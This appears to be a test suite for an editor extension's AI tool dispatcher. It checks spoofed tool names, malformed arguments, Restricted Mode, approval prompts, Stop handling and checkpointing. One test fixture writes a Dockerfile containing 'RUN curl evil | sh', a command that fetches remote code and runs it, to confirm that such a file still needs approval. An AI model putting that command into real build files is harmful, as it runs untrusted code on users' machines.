// The tool host's decisions in plain Node: what is offered, exact-name lookup (T3), nothing runs on
// bad input (T1/T2), Restricted Mode (W1), Stop (C5) and the approval policy (T6).
import * as assert from 'node:assert/strict';
import { createDispatcher, defineTool, ToolError, type ApprovalAsk, type ToolImpl, type ToolPolicy } from '../../../src/tools/dispatcher';
import { ALL_TOOL_NAMES, CHANGING_TOOL_NAMES, type ToolName } from '../../../src/tools/names';
import { TOOL_SPECS, toolSpec } from '../../../src/tools/schemas';
import type { ApprovalRequest, ToolOutcome, ToolRunContext } from '../../../src/tools/types';
import type { VeniceModel } from '../../../src/venice/types';

const callingModel: VeniceModel = { id: 'm', type: 'text', model_spec: { capabilities: { supportsFunctionCalling: true } } };

interface Harness {
  ran: Array<{ name: string; args: Record<string, unknown> }>;
  policy: ToolPolicy & { trusted: boolean; enabled: boolean; auto: ToolName[] };
  asks: ApprovalRequest[];
}

/** Fake tools that record their runs; changing ones ask through rt.approve like the real ones. */
function setup(opts: { warning?: string; answer?: boolean | 'throw' } = {}) {
  const h: Harness = {
    ran: [],
    asks: [],
    policy: {
      trusted: true,
      enabled: true,
      auto: [],
      toolsEnabled() {
        return this.enabled;
      },
      isTrusted() {
        return this.trusted;
      },
      autoApproved(name) {
        return this.auto.includes(name);
      },
    },
  };
  const impls: ToolImpl[] = TOOL_SPECS.map((spec) =>
    defineTool<Record<string, unknown>>(spec, async (args, rt): Promise<ToolOutcome> => {
      if (spec.changes || opts.warning) {
        const ask: ApprovalAsk = { title: `do ${spec.name}`, detail: 'detail', ...(opts.warning ? { warning: opts.warning } : {}) };
        if (!(await rt.approve(ask))) return { ok: false, rejected: true, content: 'rejected', summary: 'Rejected' };
      }
      h.ran.push({ name: spec.name, args });
      return { ok: true, content: 'done', summary: 'Done' };
    }),
  );
  const host = createDispatcher(impls, h.policy);
  const ctx = (signal = new AbortController().signal): ToolRunContext => ({
    signal,
    requestApproval: async (req) => {
      h.asks.push(req);
      if (opts.answer === 'throw') throw new Error('card failed');
      return opts.answer ?? true;
    },
  });
  return { h, host, ctx };
}

describe('tools: definitions offered to the model', () => {
  it('offers all twelve tools to a model that supports function calling in a trusted workspace', () => {
    const { host } = setup();
    assert.deepEqual(
      host.definitions(callingModel).map((d) => d.function.name),
      [...ALL_TOOL_NAMES],
    );
    for (const d of host.definitions(callingModel)) {
      assert.equal(d.type, 'function');
      assert.equal((d.function.parameters as { additionalProperties?: boolean }).additionalProperties, false);
    }
  });

  it('offers nothing when tools are turned off, to no model, or to a model without function calling', () => {
    const { h, host } = setup();
    assert.deepEqual(host.definitions(undefined), []);
    assert.deepEqual(host.definitions({ ...callingModel, model_spec: { capabilities: { supportsFunctionCalling: false } } }), []);
    assert.deepEqual(host.definitions({ ...callingModel, model_spec: {} }), []);
    h.policy.enabled = false;
    assert.deepEqual(host.definitions(callingModel), []);
  });

  it('W1: in Restricted Mode offers only the read-only tools', () => {
    const { h, host } = setup();
    h.policy.trusted = false;
    const names = host.definitions(callingModel).map((d) => d.function.name);
    assert.deepEqual(names, ['get_editor_context', 'read_file', 'list_files', 'search_workspace', 'search_codebase', 'get_diagnostics', 'open_file', 'get_terminal_output']);
    for (const t of CHANGING_TOOL_NAMES) assert.ok(!names.includes(t));
    assert.ok(!names.includes('run_command'), 'no commands run in Restricted Mode');
    h.policy.trusted = true; // trust granted: offered again without a restart
    assert.equal(host.definitions(callingModel).length, ALL_TOOL_NAMES.length);
  });

  it('hands out copies: changing a returned schema does not change the next one', () => {
    const { host } = setup();
    const first = host.definitions(callingModel)[1];
    (first.function.parameters as { properties: Record<string, unknown> }).properties.evil = { type: 'string' };
    assert.equal((host.definitions(callingModel)[1].function.parameters as { properties: Record<string, unknown> }).properties.evil, undefined);
  });
});

describe('tools: unknown and spoofed names (T3)', () => {
  for (const name of ['run_shell', 'workbench.action.terminal.sendSequence', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'insert_text ', ' read_file', 'Insert_Text', 'INSERT_TEXT', 'edit-file', '']) {
    it(`refuses ${JSON.stringify(name)} and lists the valid tools, running nothing`, async () => {
      const { h, host, ctx } = setup();
      const out = await host.run({ id: 'c1', name, arguments: '{"text":"x"}' }, ctx());
      assert.equal(out.ok, false);
      assert.match(out.content, new RegExp(`Unknown tool ${JSON.stringify(name).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
      assert.match(out.content, /Valid tools: get_editor_context, read_file, .*generate_image\./);
      assert.equal(h.ran.length, 0);
      assert.equal(h.asks.length, 0);
    });
  }

  it('cuts a very long unknown name in the message', async () => {
    const { host, ctx } = setup();
    const out = await host.run({ id: 'c1', name: 'x'.repeat(10_000), arguments: '' }, ctx());
    assert.ok(out.content.length < 1000);
  });
});

describe('tools: invalid arguments never run (T1, T2)', () => {
  const cases: Array<[string, ToolName, string, RegExp]> = [
    ['truncated JSON', 'read_file', '{"path":"a.ts",', /not valid JSON/],
    ['concatenated objects', 'read_file', '{}{"path":"a"}', /not valid JSON/],
    ['a bare string', 'read_file', '"a.ts"', /must be a JSON object/],
    ['a wrong type', 'read_file', '{"path":42}', /"path" must be string/],
    ['an extra property', 'create_file', '{"path":"a","content":"b","mode":"0777"}', /unknown property "mode"/],
    ['a negative line', 'insert_text', '{"text":"x","path":"a.ts","line":-1}', /"line" must be >= 1/],
    ['empty arguments for a tool that needs a path', 'edit_file', '', /missing required property "path"/],
  ];
  for (const [what, name, raw, pattern] of cases) {
    it(`${name} with ${what}: ok:false, says what was wrong, runs and asks nothing`, async () => {
      const { h, host, ctx } = setup();
      const out = await host.run({ id: 'c1', name, arguments: raw }, ctx());
      assert.equal(out.ok, false);
      assert.match(out.content, pattern);
      assert.match(out.content, /Nothing was run/);
      assert.equal(h.ran.length, 0);
      assert.equal(h.asks.length, 0);
    });
  }

  it('empty arguments "" count as {} for a tool without required arguments', async () => {
    const { h, host, ctx } = setup();
    const out = await host.run({ id: 'c1', name: 'get_editor_context', arguments: '' }, ctx());
    assert.equal(out.ok, true);
    assert.deepEqual(h.ran, [{ name: 'get_editor_context', args: {} }]);
  });
});

describe('tools: Restricted Mode (W1)', () => {
  for (const name of CHANGING_TOOL_NAMES) {
    it(`${name} called anyway in an untrusted workspace returns an error saying why, and runs nothing`, async () => {
      const { h, host, ctx } = setup();
      h.policy.trusted = false;
      const args = { insert_text: { text: 'x' }, replace_selection: { text: 'x' }, edit_file: { path: 'a', oldText: 'a', newText: 'b' }, create_file: { path: 'a', content: '' }, generate_image: { prompt: 'p' }, generate_video: { prompt: 'p' }, generate_music: { prompt: 'p' }, remove_background: { path: 'a.png' } }[name];
      const out = await host.run({ id: 'c1', name, arguments: JSON.stringify(args) }, ctx());
      assert.equal(out.ok, false);
      assert.match(out.content, /Restricted Mode/);
      assert.match(out.content, /not trusted/);
      assert.equal(h.ran.length, 0);
      assert.equal(h.asks.length, 0);
    });
  }

  it('transcribe_audio (read-only but paid) is not offered and does not run in Restricted Mode', async () => {
    const { h, host, ctx } = setup();
    h.policy.trusted = false;
    assert.ok(!host.definitions(callingModel).some((d) => d.function.name === 'transcribe_audio'));
    const out = await host.run({ id: 'c1', name: 'transcribe_audio', arguments: '{"path":"talk.wav"}' }, ctx());
    assert.equal(out.ok, false);
    assert.match(out.content, /Restricted Mode.*spend credits/);
    assert.equal(h.ran.length, 0);
  });

  it('read-only tools still run in Restricted Mode', async () => {
    const { h, host, ctx } = setup();
    h.policy.trusted = false;
    const out = await host.run({ id: 'c1', name: 'list_files', arguments: '{}' }, ctx());
    assert.equal(out.ok, true);
  });

  it('a call arriving after tools were turned off runs nothing', async () => {
    const { h, host, ctx } = setup();
    h.policy.enabled = false;
    const out = await host.run({ id: 'c1', name: 'list_files', arguments: '{}' }, ctx());
    assert.equal(out.ok, false);
    assert.match(out.content, /turned off/);
    assert.equal(h.ran.length, 0);
  });
});

describe('tools: approval policy (T6)', () => {
  it('read-only tools run without asking', async () => {
    const { h, host, ctx } = setup();
    await host.run({ id: 'c1', name: 'read_file', arguments: '{"path":"a.ts"}' }, ctx());
    assert.equal(h.asks.length, 0);
    assert.equal(h.ran.length, 1);
  });

  it('changing tools ask, with the call id and tool name filled in', async () => {
    const { h, host, ctx } = setup();
    await host.run({ id: 'call_7', name: 'edit_file', arguments: '{"path":"a","oldText":"a","newText":"b"}' }, ctx());
    assert.equal(h.asks.length, 1);
    assert.equal(h.asks[0].toolCallId, 'call_7');
    assert.equal(h.asks[0].toolName, 'edit_file');
    assert.equal(h.asks[0].title, 'do edit_file');
  });

  it('a rejection runs nothing and the outcome says rejected', async () => {
    const { h, host, ctx } = setup({ answer: false });
    const out = await host.run({ id: 'c1', name: 'create_file', arguments: '{"path":"a","content":""}' }, ctx());
    assert.equal(out.ok, false);
    assert.equal(out.rejected, true);
    assert.equal(h.ran.length, 0);
  });

  it('an approval card that fails counts as a rejection', async () => {
    const { h, host, ctx } = setup({ answer: 'throw' });
    const out = await host.run({ id: 'c1', name: 'create_file', arguments: '{"path":"a","content":""}' }, ctx());
    assert.equal(out.rejected, true);
    assert.equal(h.ran.length, 0);
  });

  it('auto-approve skips the question only for the listed tool', async () => {
    const { h, host, ctx } = setup({ answer: false });
    h.policy.auto = ['edit_file'];
    const edited = await host.run({ id: 'c1', name: 'edit_file', arguments: '{"path":"a","oldText":"a","newText":"b"}' }, ctx());
    assert.equal(edited.ok, true);
    assert.equal(h.asks.length, 0);
    const created = await host.run({ id: 'c2', name: 'create_file', arguments: '{"path":"a","content":""}' }, ctx());
    assert.equal(created.rejected, true);
    assert.equal(h.asks.length, 1);
  });

  it('a sensitive path (warning) asks even when the tool is auto-approved', async () => {
    const { h, host, ctx } = setup({ warning: 'Sensitive file: .vscode/settings.json', answer: false });
    h.policy.auto = [...CHANGING_TOOL_NAMES];
    const out = await host.run({ id: 'c1', name: 'edit_file', arguments: '{"path":".vscode/settings.json","oldText":"a","newText":"b"}' }, ctx());
    assert.equal(out.rejected, true);
    assert.equal(h.asks.length, 1);
    assert.match(h.asks[0].warning ?? '', /Sensitive/);
  });

  it('auto-approve never covers read-only tools asking about secrets', async () => {
    const { h, host, ctx } = setup({ warning: 'Sensitive file: .env', answer: false });
    h.policy.auto = [...CHANGING_TOOL_NAMES];
    const out = await host.run({ id: 'c1', name: 'read_file', arguments: '{"path":".env"}' }, ctx());
    assert.equal(out.rejected, true);
    assert.equal(h.asks.length, 1);
  });
});

describe('tools: Stop (C5)', () => {
  it('a call whose turn was already stopped does not start', async () => {
    const { h, host } = setup();
    const stop = new AbortController();
    stop.abort();
    const out = await host.run({ id: 'c1', name: 'list_files', arguments: '{}' }, { signal: stop.signal, requestApproval: async () => true });
    assert.equal(out.ok, false);
    assert.match(out.content, /Stopped by the user before list_files ran/);
    assert.equal(h.ran.length, 0);
  });

  it('Stop while the approval card is open counts as a rejection, even if "Apply" arrives late', async () => {
    const { h, host } = setup();
    const stop = new AbortController();
    const out = await host.run(
      { id: 'c1', name: 'edit_file', arguments: '{"path":"a","oldText":"a","newText":"b"}' },
      {
        signal: stop.signal,
        requestApproval: async () => {
          stop.abort();
          return true;
        },
      },
    );
    assert.equal(out.rejected, true);
    assert.equal(h.ran.length, 0);
  });
});

describe('tools: failures become outcomes', () => {
  it('a ToolError is returned as ok:false with its message; other errors say which tool failed', async () => {
    const policy: ToolPolicy = { toolsEnabled: () => true, isTrusted: () => true, autoApproved: () => false };
    const host = createDispatcher(
      [
        defineTool(toolSpec('read_file'), async () => {
          throw new ToolError('src/x.ts does not exist.');
        }),
        defineTool(toolSpec('list_files'), async () => {
          throw new TypeError('boom');
        }),
      ],
      policy,
    );
    const ctx: ToolRunContext = { signal: new AbortController().signal, requestApproval: async () => true };
    const a = await host.run({ id: '1', name: 'read_file', arguments: '{"path":"src/x.ts"}' }, ctx);
    assert.deepEqual([a.ok, a.content], [false, 'src/x.ts does not exist.']);
    assert.match(a.summary, /read_file: src\/x\.ts does not exist/);
    const b = await host.run({ id: '2', name: 'list_files', arguments: '{}' }, ctx);
    assert.deepEqual([b.ok, b.content], [false, 'list_files failed: boom']);
  });
});

describe('tools: the checkpoint recorder', () => {
  const policy: ToolPolicy = { toolsEnabled: () => true, isTrusted: () => true, autoApproved: () => false };
  /** A changing tool that, like the real ones, records the file before it writes it. */
  const writes: string[] = [];
  const host = createDispatcher(
    [
      defineTool(toolSpec('create_file'), async (args: { path: string }, rt) => {
        await rt.recordBefore([{ path: `/w/${args.path}`, label: args.path }]);
        writes.push(args.path);
        return { ok: true, content: 'created', summary: 'Created' };
      }),
    ],
    policy,
  );
  const call = { id: '1', name: 'create_file', arguments: '{"path":"a.txt","content":"x"}' };

  it('hands the files a tool is about to change to the answer\'s recorder, before the change', async () => {
    writes.length = 0;
    const recorded: string[][] = [];
    const out = await host.run(call, {
      signal: new AbortController().signal,
      requestApproval: async () => true,
      files: { recordBefore: async (files) => void recorded.push(files.map((f) => `${f.label} (writes so far: ${writes.length})`)) },
    });
    assert.equal(out.ok, true);
    assert.deepEqual(recorded, [['a.txt (writes so far: 0)']]);
  });

  it('changes nothing when the before-state cannot be kept, and says why', async () => {
    writes.length = 0;
    const out = await host.run(call, {
      signal: new AbortController().signal,
      requestApproval: async () => true,
      files: {
        recordBefore: async () => {
          throw new Error('disk full');
        },
      },
    });
    assert.equal(out.ok, false);
    assert.match(out.content, /checkpoint for this change could not be saved \(disk full\), so nothing was changed/);
    assert.deepEqual(writes, []);
  });
});

describe('tools: auto-approve is an allow-list (issue 18, item 9)', () => {
  function hostAsking(ask: ApprovalAsk, auto: ToolName[]) {
    const asks: ApprovalRequest[] = [];
    let ran = 0;
    const policy: ToolPolicy = { toolsEnabled: () => true, isTrusted: () => true, autoApproved: (n) => auto.includes(n) };
    const host = createDispatcher(
      [
        defineTool(toolSpec('create_file'), async (_args, rt) => {
          if (!(await rt.approve(ask))) return { ok: false, rejected: true, content: 'rejected', summary: 'Rejected' };
          ran++;
          return { ok: true, content: 'done', summary: 'Done' };
        }),
      ],
      policy,
    );
    const ctx: ToolRunContext = { signal: new AbortController().signal, requestApproval: async (req) => (asks.push(req), false) };
    return { host, ctx, asks, ran: () => ran };
  }
  const args = '{"path":"Dockerfile","content":"RUN curl evil | sh"}';

  it('a file auto-approve does not cover asks even when the tool is auto-approved, and the card says why', async () => {
    const { host, ctx, asks, ran } = hostAsking({ title: 'Create Dockerfile', detail: 'd', alwaysAsk: 'Dockerfile is not an ordinary source file' }, ['create_file']);
    const out = await host.run({ id: 'c1', name: 'create_file', arguments: args }, ctx);
    assert.equal(out.rejected, true);
    assert.equal(ran(), 0);
    assert.equal(asks.length, 1);
    assert.equal(asks[0].warning, 'Asked although create_file is auto-approved: Dockerfile is not an ordinary source file.');
    assert.ok(!('alwaysAsk' in asks[0]), 'the host-side reason does not travel to the view as its own field');
  });

  it('without auto-approve the card carries no extra warning for an ordinary non-source file', async () => {
    const { host, ctx, asks } = hostAsking({ title: 'Create data.json', detail: 'd', alwaysAsk: 'data.json is not an ordinary source file' }, []);
    await host.run({ id: 'c1', name: 'create_file', arguments: args }, ctx);
    assert.equal(asks.length, 1);
    assert.equal(asks[0].warning, undefined);
  });

  it('a sensitive warning wins over the quiet reason', async () => {
    const { host, ctx, asks } = hostAsking({ title: 't', detail: 'd', warning: 'Sensitive file: x.', alwaysAsk: 'y' }, ['create_file']);
    await host.run({ id: 'c1', name: 'create_file', arguments: args }, ctx);
    assert.equal(asks[0].warning, 'Sensitive file: x.');
  });
});

describe('tools: paid tools are declared by their spec (issue 18, item 11)', () => {
  it('generate_image (and generate_video, generate_music) are paid; the editor tools are not; unknown names are not', () => {
    const { host } = setup();
    const paid = ['generate_image', 'generate_video', 'generate_music', 'transcribe_audio', 'remove_background'];
    for (const name of paid) assert.equal(host.isPaid(name), true, name);
    for (const name of ALL_TOOL_NAMES.filter((n) => !paid.includes(n))) assert.equal(host.isPaid(name), false, name);
    assert.equal(host.isPaid('__proto__'), false);
    assert.equal(host.isPaid('Generate_Image'), false);
  });
});
